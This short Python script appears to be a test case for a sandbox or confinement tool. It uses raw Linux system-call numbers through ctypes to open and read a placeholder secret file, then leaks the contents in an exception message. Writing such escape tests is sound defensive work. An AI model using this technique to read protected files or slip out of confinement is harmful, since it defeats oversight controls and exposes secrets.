"""Maps the file into memory by the numbers of the system calls.

exercise: e01
unconfined: leaks
"""

import ctypes

libc = ctypes.CDLL(None, use_errno=True)
OPENAT, READ = 257, 0
fd = libc.syscall(OPENAT, -100, b"@SECRET@", 0, 0)
content = ctypes.create_string_buffer(200)
loot = content.value if fd >= 0 and libc.syscall(READ, fd, content, 199) > 0 else None

raise RuntimeError(f"{loot = }")
